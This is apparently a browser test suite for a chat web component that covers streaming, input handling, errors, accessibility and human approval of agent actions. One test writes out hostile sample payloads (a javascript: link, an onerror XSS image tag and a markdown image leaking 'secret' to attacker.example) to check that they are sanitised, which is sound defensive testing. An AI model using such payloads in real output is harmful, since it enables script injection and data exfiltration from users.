import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { userEvent } from 'vitest/browser';
import axe from 'axe-core';
import { createClient } from '@parley/client';
import '../define.js';
import type { ParleyChat } from './parley-chat.js';
import { controlledSse, sse, startMockGateway } from '../testing/mock-gateway.js';

const url = '/api/chat';
let gateway: Awaited<ReturnType<typeof startMockGateway>>;

beforeAll(async () => {
  gateway = await startMockGateway();
});
afterAll(() => gateway.worker.stop());
/**
 * Other test files may run in sibling iframes that share this origin's storage: every
 * conversation here gets an id with this file's prefix, and only those keys are cleared.
 */
const prefix = 'chat-test-';
let mounted = 0;
afterEach(() => {
  gateway.reset();
  document.body.replaceChildren();
  document.documentElement.lang = 'en';
  for (const area of [sessionStorage, localStorage]) {
    for (const key of Object.keys(area)) if (key.includes(`:${prefix}`)) area.removeItem(key);
  }
});

/** `conversation-id` defaults to a fresh one; pass `'conversation-id': ''` to test the element's own default. */
async function mount(attributes: Record<string, string> = {}, parent: HTMLElement = document.body): Promise<ParleyChat> {
  const el = document.createElement('parley-chat');
  el.setAttribute('endpoint', url);
  el.setAttribute('protocol', 'parley');
  if (!('conversation-id' in attributes)) el.setAttribute('conversation-id', `${prefix}${++mounted}`);
  else if (attributes['conversation-id']) attributes = { ...attributes, 'conversation-id': prefix + attributes['conversation-id'] };
  for (const [name, value] of Object.entries(attributes)) el.setAttribute(name, value);
  parent.append(el);
  await el.updateComplete;
  return el;
}

const part = <T extends Element = HTMLElement>(el: ParleyChat, selector: string) => el.shadowRoot!.querySelector<T>(selector);
const parts = (el: ParleyChat, selector: string) => Array.from(el.shadowRoot!.querySelectorAll<HTMLElement>(selector));
/** Waits for a part to be there and returns it. */
const shown = (el: ParleyChat, selector: string): Promise<HTMLElement> =>
  vi.waitFor(() => {
    const found = part(el, selector);
    expect(found).not.toBeNull();
    return found!;
  });
const answers = (el: ParleyChat) => parts(el, '[part~="message"][part~="assistant"]');
const lastAnswerText = (el: ParleyChat) => answers(el).at(-1)?.querySelector('parley-markdown')?.textContent ?? '';
const messageTextOf = (message: { parts: Array<{ type: string; text?: string }> }) =>
  message.parts.map((p) => (p.type === 'text' ? p.text : '')).join('');
const input = (el: ParleyChat) => part<HTMLTextAreaElement>(el, '[part~="input"]')!;

async function typeAndEnter(el: ParleyChat, text: string): Promise<void> {
  input(el).focus();
  await userEvent.keyboard(text);
  await userEvent.keyboard('{Enter}');
}

describe('<parley-chat> streaming', () => {
  it('renders the answer progressively, as markdown, and completely', async () => {
    const { response, answer } = controlledSse();
    gateway.serve(url, () => response);
    const el = await mount();
    void el.send('hi');
    answer.text('# Quarterly ');
    await vi.waitFor(() => expect(lastAnswerText(el)).toContain('Quarterly'));
    expect(part(el, '[part~="messages"]')!.getAttribute('aria-busy')).toBe('true');
    expect(part(el, '[part~="stop"]')).not.toBeNull();
    answer.text('report\n\n- **revenue** up\n- costs down');
    answer.finish();
    await vi.waitFor(() => expect(part(el, '[part~="messages"]')!.getAttribute('aria-busy')).toBe('false'));
    // As markdown once the renderer is in (it loads on first use; until then the text shows as written).
    await vi.waitFor(() => expect(answers(el)[0]!.querySelector('h1')?.textContent).toBe('Quarterly report'));
    const answerEl = answers(el)[0]!;
    expect(answerEl.querySelector('li strong')?.textContent).toBe('revenue');
    expect(answerEl.querySelectorAll('li')).toHaveLength(2);
    expect(part(el, '[part~="message"][part~="user"]')!.textContent).toContain('hi');
    expect(part(el, '[part~="stop"]')).toBeNull();
    expect(gateway.requests[0]!.body.messages.at(-1)).toMatchObject({ role: 'user', content: 'hi' });
  });

  it('renders at most once per animation frame however fast tokens arrive', async () => {
    const { response, answer } = controlledSse();
    gateway.serve(url, () => response);
    const el = await mount();
    void el.send('fast');
    await vi.waitFor(() => expect(answers(el)).toHaveLength(1));
    let updates = 0;
    let frames = 0;
    let counting = true;
    el.addController({ hostUpdated: () => void updates++ });
    const tick = () => {
      frames++;
      if (counting) requestAnimationFrame(tick);
    };
    requestAnimationFrame(tick);
    for (let i = 0; i < 200; i++) {
      answer.text(`w${i} `);
      await new Promise((resolve) => setTimeout(resolve, 0));
    }
    await vi.waitFor(() => expect(lastAnswerText(el)).toContain('w199'));
    counting = false;
    expect(updates).toBeLessThanOrEqual(frames + 1);
    answer.finish();
  });

  it('applies the link and image policy to model output', async () => {
    gateway.serve(url, () =>
      sse([
        {
          type: 'text-delta',
          delta:
            '[safe](https://example.com/a) [evil](javascript:alert(1)) <img src=x onerror="alert(1)">\n\n' +
            '![chart](https://img.corp.example/c.png)\n\n![leak](https://attacker.example/p.png?q=secret)\n',
        },
        { type: 'finish', reason: 'stop' },
      ]),
    );
    const el = await mount({ 'image-hosts': 'img.corp.example' });
    await el.send('links');
    await vi.waitFor(() => expect(lastAnswerText(el)).toContain('safe'));
    await vi.waitFor(() => expect(part(el, '[part~="messages"]')!.getAttribute('aria-busy')).toBe('false'));
    const answerEl = answers(el)[0]!;
    const safe = answerEl.querySelector<HTMLAnchorElement>('a[href="https://example.com/a"]')!;
    expect(safe.target).toBe('_blank');
    expect(safe.rel).toContain('noopener');
    expect(safe.rel).toContain('noreferrer');
    expect(answerEl.querySelector('a[href^="javascript"]')).toBeNull();
    expect(answerEl.textContent).toContain('<img src=x onerror="alert(1)">');
    const images = Array.from(answerEl.querySelectorAll('img')).map((img) => img.getAttribute('src'));
    expect(images).toEqual(['https://img.corp.example/c.png']);
    expect(answerEl.textContent).toContain('attacker.example');
  });
});

describe('<parley-chat> composer', () => {
  it('sends on Enter once, keeps Shift+Enter as a new line, and never sends on IME Enter', async () => {
    gateway.serve(url, () => sse([{ type: 'text-delta', delta: 'ok' }, { type: 'finish', reason: 'stop' }]));
    const el = await mount();
    const box = input(el);
    box.focus();
    await userEvent.keyboard('first line{Shift>}{Enter}{/Shift}second');
    expect(box.value).toBe('first line\nsecond');

    // Chinese IME: the Enter that confirms a candidate arrives with isComposing / keyCode 229.
    // The IME must get its Enter (not cancelled), and the text stays in the composer.
    expect(box.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', isComposing: true, bubbles: true, composed: true, cancelable: true }))).toBe(true);
    expect(box.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', keyCode: 229, bubbles: true, composed: true, cancelable: true }))).toBe(true);
    await el.updateComplete;
    expect(box.value).toBe('first line\nsecond');
    expect(gateway.requests).toHaveLength(0);
    expect(parts(el, '[part~="message"]')).toHaveLength(0);

    // Two Enters in the same task: one request.
    box.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true, cancelable: true }));
    box.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true, composed: true, cancelable: true }));
    await vi.waitFor(() => expect(lastAnswerText(el)).toBe('ok'));
    await vi.waitFor(() => expect(el.conversation.getSnapshot().status).toBe('idle'));
    expect(gateway.requests).toHaveLength(1);
    expect(gateway.requests[0]!.body.messages.at(-1)).toMatchObject({ role: 'user', content: 'first line\nsecond' });
    expect(box.value).toBe('');
    expect(parts(el, '[part~="message"][part~="user"]')).toHaveLength(1);
  });

  it('sends once on a double click of Send', async () => {
    gateway.serve(url, () => sse([{ type: 'text-delta', delta: 'once' }, { type: 'finish', reason: 'stop' }]));
    const el = await mount();
    input(el).focus();
    await userEvent.keyboard('hello');
    await userEvent.dblClick(part(el, '[part~="send"]')!);
    await vi.waitFor(() => expect(lastAnswerText(el)).toBe('once'));
    await vi.waitFor(() => expect(el.conversation.getSnapshot().status).toBe('idle'));
    expect(gateway.requests).toHaveLength(1);
  });

  it('Stop keeps the partial answer and marks it stopped', async () => {
    const { response, answer } = controlledSse();
    gateway.serve(url, () => response);
    const el = await mount();
    await typeAndEnter(el, 'long question');
    answer.text('The first half');
    await vi.waitFor(() => expect(lastAnswerText(el)).toContain('The first half'));
    await userEvent.click(part(el, '[part~="stop"]')!);
    await answer.cancelled;
    await vi.waitFor(() => expect(part(el, '[part~="stop"]')).toBeNull());
    expect(lastAnswerText(el)).toContain('The first half');
    expect(answers(el)[0]!.textContent).toContain('Stopped');
    expect(el.conversation.getSnapshot().messages.at(-1)?.finishReason).toBe('abort');
  });

  it('restores the conversation and the draft in a re-created element with the same conversation-id', async () => {
    gateway.serve(url, () => sse([{ type: 'text-delta', delta: 'remembered answer' }, { type: 'finish', reason: 'stop' }]));
    const first = await mount({ 'conversation-id': 'orders' });
    await first.send('remember me');
    await vi.waitFor(() => expect(first.conversation.getSnapshot().status).toBe('idle'));
    input(first).focus();
    await userEvent.keyboard('unsent draft');
    first.remove();

    const second = await mount({ 'conversation-id': 'orders' });
    await vi.waitFor(() => expect(lastAnswerText(second)).toBe('remembered answer'));
    expect(part(second, '[part~="message"][part~="user"]')!.textContent).toContain('remember me');
    await vi.waitFor(() => expect(input(second).value).toBe('unsent draft'));

    const other = await mount({ 'conversation-id': 'invoices' });
    expect(parts(other, '[part~="message"]')).toHaveLength(0);
  });

  it('keeps nothing with persist="none", and survives in localStorage with persist="local"', async () => {
    gateway.serve(url, () => sse([{ type: 'text-delta', delta: 'kept?' }, { type: 'finish', reason: 'stop' }]));
    for (const persist of ['none', 'local'] as const) {
      const first = await mount({ persist, 'conversation-id': `p-${persist}` });
      await first.send('hello');
      first.remove();
      for (const key of Object.keys(sessionStorage)) if (key.includes(`:${prefix}`)) sessionStorage.removeItem(key);
      const second = await mount({ persist, 'conversation-id': `p-${persist}` });
      await second.updateComplete;
      expect(answers(second)).toHaveLength(persist === 'local' ? 1 : 0);
      second.remove();
    }
  });

  it('persist="none" keeps the transcript while the element lives: another model or actions build a conversation anew, and it shows what was said', async () => {
    gateway.serve(url, () => sse([{ type: 'text-delta', delta: 'Net 45.' }, { type: 'finish', reason: 'stop' }]));
    const el = await mount({ persist: 'none' });
    await el.send('Payment terms with ACME?');
    const before = el.conversation;
    el.setAttribute('model', 'qwen2.5-72b');
    el.actions = { create_po: { description: 'Create a purchase order', parameters: { type: 'object' }, run: () => 'ok' } };
    await el.updateComplete;
    expect(el.conversation).not.toBe(before);
    await vi.waitFor(() => expect(lastAnswerText(el)).toBe('Net 45.'));
    expect(part(el, '[part~="message"][part~="user"]')!.textContent).toContain('Payment terms with ACME?');
    // And the next question is asked with what came before.
    await el.send('And with Bolt?');
    expect(gateway.requests.at(-1)!.body.messages.map((message) => message.content)).toEqual(['Payment terms with ACME?', 'Net 45.', 'And with Bolt?']);
  });

  it('new headers (a refreshed token, a sign-in after the first question) go with the next request: the answer streaming goes on, the transcript stays', async () => {
    const { response, answer } = controlledSse();
    gateway.serve(url, (_request, index) => (index === 0 ? response : sse([{ type: 'text-delta', delta: 'Net 30.' }, { type: 'finish', reason: 'stop' }])));
    const el = await mount({ persist: 'none' });
    const conversation = el.conversation;
    const first = el.send('Payment terms with ACME?');
    answer.text('Net ');
    await vi.waitFor(() => expect(lastAnswerText(el)).toContain('Net'));
    el.headers = { authorization: 'Bearer signed-in' };
    await el.updateComplete;
    answer.text('45.');
    answer.finish();
    await first;
    await vi.waitFor(() => expect(lastAnswerText(el)).toBe('Net 45.'));
    expect(el.conversation).toBe(conversation);
    expect(gateway.requests).toHaveLength(1);
    expect(gateway.requests[0]!.headers.get('authorization')).toBeNull();

    el.headers = async () => ({ authorization: 'Bearer refreshed' });
    await el.send('And with Bolt?');
    expect(gateway.requests.map((request) => request.headers.get('authorization'))).toEqual([null, 'Bearer refreshed']);
    expect(answers(el).map((message) => message.querySelector('parley-markdown')?.textContent)).toEqual(['Net 45.', 'Net 30.']);
  });

  it('a send from a stale copy (persist="local", another tab wrote since) is refused: the text stays in the composer and the newer transcript is shown', async () => {
    gateway.serve(url, () => sse([{ type: 'text-delta', delta: 'Net 45.' }, { type: 'finish', reason: 'stop' }]));
    // Two elements on one stored conversation stand for two tabs; one document has no storage
    // events, so the first one's copy stays as it was, as in a tab that has not handled one yet.
    const stale = await mount({ persist: 'local', 'conversation-id': 'stale' });
    const other = await mount({ persist: 'local', 'conversation-id': 'stale' });
    expect(await other.send('Payment terms with ACME?')).toBe(true);
    expect(answers(stale)).toHaveLength(0);
    await typeAndEnter(stale, 'And Globex?');
    await vi.waitFor(() => expect(answers(stale)).toHaveLength(1));
    expect(lastAnswerText(stale)).toContain('Net 45.');
    expect(input(stale).value).toBe('And Globex?');
    expect(parts(stale, '[part~="message"][part~="user"]').map((message) => message.textContent?.trim())).toEqual([expect.stringContaining('Payment terms with ACME?')]);
    expect(gateway.requests).toHaveLength(1);
  });
});

describe('<parley-chat> errors', () => {
  it('says the gateway is down in the person’s language and retries on request', async () => {
    gateway.serve(url, (_request, index) =>
      index === 0
        ? new Response('bad gateway', { status: 502 })
        : sse([{ type: 'text-delta', delta: 'back again' }, { type: 'finish', reason: 'stop' }]),
    );
    const el = await mount();
    el.client = createClient({ url, protocol: 'parley', retry: false });
    const errors: unknown[] = [];
    el.addEventListener('parley-error', (event) => errors.push(event.detail.error));
    expect(await el.send('are you there?')).toBe(true);
    const alert = await shown(el, '[role="alert"]');
    expect(alert.textContent).toContain('cannot be reached');
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({ status: 502 });
    await userEvent.click(alert.querySelector('button')!);
    await vi.waitFor(() => expect(lastAnswerText(el)).toBe('back again'));
    expect(part(el, '[role="alert"]')).toBeNull();
    expect(gateway.requests).toHaveLength(2);
  });

  it('tells a signed-out person to sign in, and a rate-limited one to wait (in Chinese too)', async () => {
    gateway.serve(url, (_request, index) =>
      index === 0
        ? new Response('{"error":{"message":"no session"}}', { status: 401, headers: { 'content-type': 'application/json' } })
        : new Response('slow down', { status: 429 }),
    );
    const el = await mount({ lang: 'zh-CN' });
    el.client = createClient({ url, protocol: 'parley', retry: false });
    await el.send('你好');
    await vi.waitFor(() => expect(part(el, '[role="alert"]')?.textContent).toContain('您已退出登录'));
    await userEvent.click(part(el, '[role="alert"] button')!);
    await vi.waitFor(() => expect(part(el, '[role="alert"]')?.textContent).toContain('当前请求过多'));
  });

  it('names a mistyped endpoint and offers no Retry that could not help; the question is kept', async () => {
    // Nothing serves /api/chta: the page's own server answers 404 with its HTML.
    const el = await mount();
    el.client = createClient({ url: '/api/chta?key=secret', protocol: 'parley' });
    await el.send('Where is PO-1?');
    const alert = await shown(el, '[role="alert"]');
    expect(alert.textContent).toContain('The endpoint /api/chta was not found (HTTP 404): check the endpoint URL.');
    expect(alert.textContent).not.toContain('secret');
    expect(alert.querySelector('button')).toBeNull();
    expect(part(el, '[part~="message"][part~="user"]')!.textContent).toContain('Where is PO-1?');
  });
});

describe('<parley-chat> answer tools', () => {
  it('regenerates the last answer in place, copies it, and reports feedback', async () => {
    gateway.serve(url, (_request, index) => sse([{ type: 'text-delta', delta: index === 0 ? 'first try' : 'second try' }, { type: 'finish', reason: 'stop' }]));
    const el = await mount();
    await el.send('question');
    await vi.waitFor(() => expect(lastAnswerText(el)).toBe('first try'));
    await vi.waitFor(() => expect(answers(el)[0]!.querySelector('button.regenerate')).not.toBeNull());
    await userEvent.click(answers(el)[0]!.querySelector<HTMLButtonElement>('button.regenerate')!);
    await vi.waitFor(() => expect(lastAnswerText(el)).toBe('second try'));
    expect(answers(el)).toHaveLength(1);
    expect(gateway.requests).toHaveLength(2);
    expect(gateway.requests[1]!.body.messages).toEqual([expect.objectContaining({ role: 'user', content: 'question' })]);

    const copy = answers(el)[0]!.querySelector<HTMLButtonElement>('button.copy')!;
    await userEvent.click(copy);
    await vi.waitFor(() => expect(copy.textContent!.trim()).toBe('Copied'));

    const feedback: unknown[] = [];
    el.addEventListener('parley-feedback', (event) => feedback.push(event.detail));
    await userEvent.click(answers(el)[0]!.querySelector<HTMLButtonElement>('button.feedback-up')!);
    const id = el.conversation.getSnapshot().messages.at(-1)!.id;
    expect(feedback).toEqual([{ messageId: id, rating: 'up' }]);
    await vi.waitFor(() => expect(answers(el)[0]!.querySelector('button.feedback-up')!.getAttribute('aria-pressed')).toBe('true'));
  });

  it('leaves focus in the composer while an answer arrives', async () => {
    const { response, answer } = controlledSse();
    gateway.serve(url, () => response);
    const el = await mount();
    await typeAndEnter(el, 'keep typing');
    answer.text('a long answer');
    await vi.waitFor(() => expect(lastAnswerText(el)).toContain('a long answer'));
    expect(el.shadowRoot!.activeElement).toBe(input(el));
    await userEvent.keyboard('next question');
    answer.finish();
    await vi.waitFor(() => expect(part(el, '[part~="stop"]')).toBeNull());
    expect(el.shadowRoot!.activeElement).toBe(input(el));
    expect(input(el).value).toBe('next question');
  });
});

describe('<parley-chat> themes', () => {
  it('switches themes by attribute and lets the page override tokens', async () => {
    const el = await mount();
    const panel = part(el, '[part~="panel"]')!;
    expect(getComputedStyle(panel).backgroundColor).toBe('rgb(255, 255, 255)');
    el.setAttribute('theme', 'dark');
    await el.updateComplete;
    expect(getComputedStyle(panel).backgroundColor).toBe('rgb(23, 25, 29)');
    el.style.setProperty('--parley-color-accent', 'rgb(200, 16, 46)');
    expect(getComputedStyle(part(el, '[part~="send"]')!).backgroundColor).toBe('rgb(200, 16, 46)');
  });
});

describe('<parley-chat> accessibility', () => {
  async function violations(el: ParleyChat): Promise<string[]> {
    const result = await axe.run(el, { resultTypes: ['violations'] });
    return result.violations.map((violation) => `${violation.id}: ${violation.nodes.map((node) => node.target.join(' ')).join(', ')}`);
  }

  it('has no axe violations empty, answered, with an error, and as a launcher', async () => {
    gateway.serve(url, (_request, index) =>
      index === 0
        ? sse([
            { type: 'text-delta', delta: '## Order\n\n| id | state |\n|---|---|\n| PO-1 | shipped |\n\n```ts\nconst a = 1;\n```\n' },
            { type: 'citation', citation: { id: '1', title: 'Order policy', url: 'https://docs.example/policy', snippet: 'Orders ship in 2 days.' } },
            { type: 'status', status: { id: 's1', label: 'Searching documents', state: 'done' } },
            { type: 'finish', reason: 'stop' },
          ])
        : new Response('down', { status: 400 }),
    );
    const el = await mount();
    expect(await violations(el)).toEqual([]);
    await el.send('order?');
    await vi.waitFor(() => expect(part(el, '[part~="citation"]')).not.toBeNull());
    await el.updateComplete;
    expect(await violations(el)).toEqual([]);
    await el.send('again');
    await vi.waitFor(() => expect(part(el, '[role="alert"]')).not.toBeNull());
    expect(await violations(el)).toEqual([]);
    const launcher = await mount({ mode: 'launcher', 'conversation-id': 'launcher' });
    expect(await violations(launcher)).toEqual([]);
    launcher.open();
    await launcher.updateComplete;
    expect(await violations(launcher)).toEqual([]);
  });
});

describe('<parley-chat> agent actions, reasoning and progress (default rendering)', () => {
  it('shows an action card with its arguments, runs only after Approve, and continues the answer', async () => {
    gateway.serve(url, (_request, index) =>
      index === 0
        ? sse([
            { type: 'reasoning-delta', delta: 'The person wants the order status.' },
            { type: 'status', status: { id: 'lookup', label: 'Looking up the order', state: 'running' } },
            { type: 'tool-call', toolCall: { id: 'call-1', name: 'lookupOrder', args: { orderId: 'PO-2025-0117' } } },
            { type: 'finish', reason: 'tool-calls' },
          ])
        : sse([{ type: 'text-delta', delta: 'PO-2025-0117 has shipped.' }, { type: 'finish', reason: 'stop' }]),
    );
    const ran: unknown[] = [];
    const el = await mount();
    el.actions = {
      lookupOrder: {
        description: 'Look up a purchase order',
        parameters: { type: 'object', properties: { orderId: { type: 'string' } }, required: ['orderId'] },
        run: (args) => (ran.push(args), { status: 'shipped' }),
      },
    };
    const phases: string[] = [];
    el.addEventListener('parley-action', (event) => phases.push(event.detail.type));
    const responses: string[] = [];
    el.addEventListener('parley-response', (event) => responses.push(messageTextOf(event.detail.message)));
    // Everything the live region says (each is cleared a second later, so a loaded machine can
    // poll past it).
    const live = part(el, '[aria-live="polite"]')!;
    const heard: string[] = [];
    new MutationObserver(() => heard.push(live.textContent!.trim())).observe(live, { childList: true, subtree: true, characterData: true });
    void el.send('status of PO-2025-0117?');

    // The card's code loads on first use; until then its frame is aria-busy.
    const card = await shown(el, '[part~="action"]:not([aria-busy])');
    expect(card.textContent).toContain('lookupOrder');
    expect(card.textContent).toContain('PO-2025-0117');
    expect(part(el, '[part~="reasoning"]')!.textContent).toContain('The person wants the order status.');
    expect(part(el, '[part~="status"]')!.textContent).toContain('Looking up the order');
    await vi.waitFor(() => expect(part(el, '[part~="composer"]')!.textContent).toContain('Approve or reject the action above'));
    expect(heard).toContain('Approve or reject the action above to continue.');
    expect(ran).toEqual([]);

    await userEvent.click(part(el, '[part~="action-approve"]')!);
    await vi.waitFor(() => expect(lastAnswerText(el)).toContain('PO-2025-0117 has shipped.'));
    expect(ran).toEqual([{ orderId: 'PO-2025-0117' }]);
    expect(part(el, '[part~="action-approve"]')).toBeNull();
    expect(phases).toEqual(['requested', 'approved', 'ran']);
    // One answer, reported once, when it really finished (not while it waited for the person).
    await vi.waitFor(() => expect(responses).toEqual(['PO-2025-0117 has shipped.']));
    expect(heard.some((said) => said.includes('PO-2025-0117 has shipped.'))).toBe(true);
    expect(gateway.requests[1]!.body.messages.at(-1)).toMatchObject({ role: 'tool' });
  });

  it('tells the model when a person rejects an action', async () => {
    gateway.serve(url, (_request, index) =>
      index === 0
        ? sse([{ type: 'tool-call', toolCall: { id: 'call-9', name: 'deleteOrder', args: { orderId: 'PO-1' } } }, { type: 'finish', reason: 'tool-calls' }])
        : sse([{ type: 'text-delta', delta: 'Understood, nothing was deleted.' }, { type: 'finish', reason: 'stop' }]),
    );
    const el = await mount();
    el.actions = { deleteOrder: { description: 'Delete an order', run: () => 'deleted' } };
    void el.send('delete PO-1');
    await vi.waitFor(() => expect(part(el, '[part~="action-reject"]')).not.toBeNull());
    await userEvent.click(part(el, '[part~="action-reject"]')!);
    await vi.waitFor(() => expect(lastAnswerText(el)).toContain('nothing was deleted'));
    expect(part(el, '[part~="action"]')!.textContent).toContain('Rejected');
    expect(JSON.stringify(gateway.requests[1]!.body.messages.at(-1))).toContain('rejected');
  });
});

describe('<parley-chat> i18n', () => {
  it('follows its lang attribute, the page language, and host overrides', async () => {
    document.documentElement.lang = 'zh-CN';
    const el = await mount();
    expect(input(el).placeholder).toBe('请输入您的问题…');
    expect(part(el, '[part~="send"]')!.textContent!.trim()).toBe('发送');

    el.setAttribute('lang', 'en');
    await el.updateComplete;
    expect(part(el, '[part~="send"]')!.textContent!.trim()).toBe('Send');

    el.removeAttribute('lang');
    document.documentElement.lang = 'en-GB';
    await vi.waitFor(() => expect(input(el).placeholder).toBe('Ask a question…'));

    el.labels = { send: 'Ask', heading: 'ERP helper' };
    await el.updateComplete;
    expect(part(el, '[part~="send"]')!.textContent!.trim()).toBe('Ask');
    expect(part(el, '[part~="header"]')!.textContent).toContain('ERP helper');
  });
});

describe('<parley-chat> instances and lifecycle', () => {
  it('keeps two instances on one page independent', async () => {
    gateway.serve(url, (request) =>
      sse([{ type: 'text-delta', delta: `echo: ${String(request.body.messages.at(-1)?.content)}` }, { type: 'finish', reason: 'stop' }]),
    );
    const a = await mount({ 'conversation-id': '', persist: 'none' });
    const b = await mount({ 'conversation-id': '', persist: 'none' });
    await a.send('alpha');
    await vi.waitFor(() => expect(lastAnswerText(a)).toBe('echo: alpha'));
    expect(parts(b, '[part~="message"]')).toHaveLength(0);
    await b.send('beta');
    await vi.waitFor(() => expect(lastAnswerText(b)).toBe('echo: beta'));
    expect(answers(a)).toHaveLength(1);
    expect(lastAnswerText(a)).toBe('echo: alpha');
    expect(gateway.requests[1]!.body.messages).toHaveLength(1);
  });

  it('aborts its request when removed from the page', async () => {
    const { response, answer } = controlledSse();
    gateway.serve(url, () => response);
    const el = await mount();
    void el.send('a long one');
    answer.text('partial');
    await vi.waitFor(() => expect(lastAnswerText(el)).toContain('partial'));
    el.remove();
    await answer.cancelled;
  });

  it('renders before it has an endpoint, fails a send visibly, and works once the endpoint is set', async () => {
    gateway.serve(url, () => sse([{ type: 'text-delta', delta: 'configured' }, { type: 'finish', reason: 'stop' }]));
    const el = document.createElement('parley-chat');
    el.setAttribute('conversation-id', `${prefix}unconfigured`);
    document.body.append(el);
    await el.updateComplete;
    expect(input(el)).not.toBeNull();
    await el.send('too early');
    await vi.waitFor(() => expect(part(el, '[role="alert"]')).not.toBeNull());
    el.endpoint = url;
    el.protocol = 'parley';
    await el.updateComplete;
    // The same conversation id: what was typed before is kept, nothing is lost.
    expect(part(el, '[part~="message"][part~="user"]')!.textContent).toContain('too early');
    await el.send('now');
    await vi.waitFor(() => expect(lastAnswerText(el)).toBe('configured'));
  });

  it('fires parley-send and parley-response with their details, bubbling out of the page', async () => {
    gateway.serve(url, () => sse([{ type: 'text-delta', delta: 'Done **now**' }, { type: 'finish', reason: 'stop' }]));
    const el = await mount();
    const seen: Array<{ type: string; detail: unknown; composed: boolean }> = [];
    for (const type of ['parley-send', 'parley-response'] as const) {
      document.addEventListener(type, (event) => seen.push({ type, detail: event.detail, composed: event.composed }));
    }
    await typeAndEnter(el, 'status?');
    await vi.waitFor(() => expect(seen.map((event) => event.type)).toEqual(['parley-send', 'parley-response']));
    expect(seen[0]).toEqual({ type: 'parley-send', detail: { text: 'status?' }, composed: true });
    const { message } = seen[1]!.detail as { message: { role: string; parts: Array<{ type: string; text?: string }> } };
    expect(message.role).toBe('assistant');
    expect(message.parts).toContainEqual({ type: 'text', text: 'Done **now**' });
  });

  it('announces a finished answer once in a polite live region, not per token', async () => {
    const { response, answer } = controlledSse();
    gateway.serve(url, () => response);
    const el = await mount();
    const live = part(el, '[aria-live="polite"]')!;
    const heard: string[] = [];
    new MutationObserver(() => heard.push(live.textContent!.trim())).observe(live, { childList: true, subtree: true, characterData: true });
    void el.send('hi');
    for (const word of ['One ', 'two ', 'three ', '**four**']) {
      answer.text(word);
      // Trailing spaces of an unfinished paragraph are not rendered; the word itself must be.
      await vi.waitFor(() => expect(lastAnswerText(el)).toContain(word.replace(/\*/g, '').trim()));
    }
    answer.finish();
    await vi.waitFor(() => expect(live.textContent).toContain('One two three four'));
    await el.updateComplete;
    expect(heard.filter(Boolean)).toEqual(['Responding…', 'Assistant: One two three four']);
  });
});

describe('<parley-chat mode="launcher">', () => {
  it('opens from the launcher, closes with Escape, and returns focus to the launcher', async () => {
    const el = await mount({ mode: 'launcher' });
    const launcher = part(el, '[part~="launcher"]')!;
    const panel = part(el, '[part~="panel"]')!;
    expect(panel.hidden).toBe(true);
    const events: string[] = [];
    el.addEventListener('parley-open', () => events.push('open'));
    el.addEventListener('parley-close', () => events.push('close'));

    // Keyboard focus is visible (an outline ring), in Chromium 80 (:focus) and newer (:focus-visible).
    input(el).blur();
    await userEvent.keyboard('{Tab}');
    expect(el.shadowRoot!.activeElement).toBe(launcher);
    expect(getComputedStyle(launcher).outlineStyle).toBe('solid');
    await userEvent.keyboard('{Enter}');
    await el.updateComplete;
    expect(el.hasAttribute('open')).toBe(true);
    expect(panel.hidden).toBe(false);
    expect(el.shadowRoot!.activeElement).toBe(input(el));

    await userEvent.keyboard('{Escape}');
    await el.updateComplete;
    expect(panel.hidden).toBe(true);
    expect(el.shadowRoot!.activeElement).toBe(launcher);
    expect(launcher.getAttribute('aria-expanded')).toBe('false');

    el.open();
    await el.updateComplete;
    expect(panel.hidden).toBe(false);
    el.close();
    await el.updateComplete;
    expect(events).toEqual(['open', 'close', 'open', 'close']);
  });

  it('draws its icon itself, in the button text colour: no emoji, which a desktop without an emoji font shows as an empty box', async () => {
    const el = await mount({ mode: 'launcher' });
    const icon = part(el, '.launcher-icon')!;
    expect(icon.textContent).toBe('');
    const drawn = getComputedStyle(icon, '::before');
    expect(parseFloat(drawn.width)).toBeGreaterThan(15);
    expect(parseFloat(drawn.height)).toBeGreaterThan(12);
    expect(drawn.borderTopColor).toBe(getComputedStyle(part(el, '[part~="launcher"]')!).color);
    el.open();
    await el.updateComplete;
    expect(icon.textContent).toBe('×');
    expect(getComputedStyle(icon, '::before').content).toBe('none');
  });
});
